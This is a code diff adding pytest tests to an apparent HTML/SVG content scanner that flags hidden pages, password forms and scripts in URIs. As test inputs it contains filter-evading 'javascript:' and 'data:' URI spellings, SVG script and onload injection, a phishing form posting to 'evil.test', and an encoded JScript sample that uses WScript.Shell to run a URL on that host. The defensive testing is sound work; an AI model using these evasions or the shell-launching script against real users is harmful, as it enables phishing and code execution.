@@ -6,6 +6,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from sekisho.mime.documents import page
+from sekisho.testing.encoded_scripts import encoded
 
 FILE = b"PK\x03\x04" + bytes(range(256)) * 4
 INNER = b"<html><body><form action='https://evil.test/'><input type=password></form></body></html>"
@@ -37,6 +38,43 @@ def test_a_file_in_pieces(look):
 def test_a_page_in_a_page(look, written):
     looking = look(page.look, f"<script>document.write({written})</script>", "html")
     assert {"page_hidden_page", "page_password"} <= set(looking.signs)
+
+
+ADDRESS = "x/y;base64," + b64encode(FILE).decode()
+
+
+@pytest.mark.parametrize("written", ["da\tta:", "d\na\nt\na\n:", "DA\r\nTA:", "da&Tab;ta&colon;", "&#100;a&NewLine;ta:", "data:", "&#x64;ata&colon;"])
+def test_an_address_as_a_browser_reads_it(look, written):
+    looking = look(page.look, f"<html><a href='{written}{ADDRESS}'>x</a></html>", "html")
+    assert [member.octets for member in looking.members] == [FILE]
+
+
+def test_an_address_whose_content_is_written_with_entities(look):
+    looking = look(page.look, f"<html><a href='data:{ADDRESS.replace('U', '&#85;')}'>x</a></html>", "html")
+    assert FILE in [member.octets for member in looking.members]
+
+
+@pytest.mark.parametrize("written", ["java\nscript:", "java&Tab;script:", "j\ta\tv\ta\tscript&colon;", "JAVA&#10;SCRIPT:"])
+def test_a_script_in_an_address(look, written):
+    assert "picture_script" in look(page.look, f"<svg><a href='{written}alert(1)'/></svg>", "svg").signs
+
+
+def test_an_encoded_script_in_a_page(look):
+    script = encoded(b"x.Run('https://evil.test/a')\r\nnew ActiveXObject('WScript.Shell')")
+    looking = look(page.look, b"<html><script language='JScript.Encode'>" + script + b"</script></html>", "html")
+    assert "page_program" in looking.signs
+    assert "https://evil.test/a" in looking.links
+
+
+def test_a_drawing_in_an_address_is_no_hidden_page(look):
+    drawing = "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 16 16'><path d='M1 2a3 3 0 0 1 4 4z'/></svg>"
+    for address in (quote(drawing), ";base64," + b64encode(drawing.encode()).decode(), drawing.replace("'", "%27")):
+        assert look(page.look, f'<style>a{{background:url("data:image/svg+xml,{address}")}}</style>', "html").signs == {}
+    told = look(page.look, f'<img src="data:image/svg+xml,{quote(drawing.replace("<path", "<script>x()</script><path"))}">', "html").signs
+    assert "page_hidden_page" in told
+    assert (
+        "picture_script" in look(page.look, f'<embed src="data:image/svg+xml,{quote(drawing.replace("<path", "<path onload=x()"))}">', "html").signs
+    )
 
 
 def test_pictures_that_run_scripts(look):
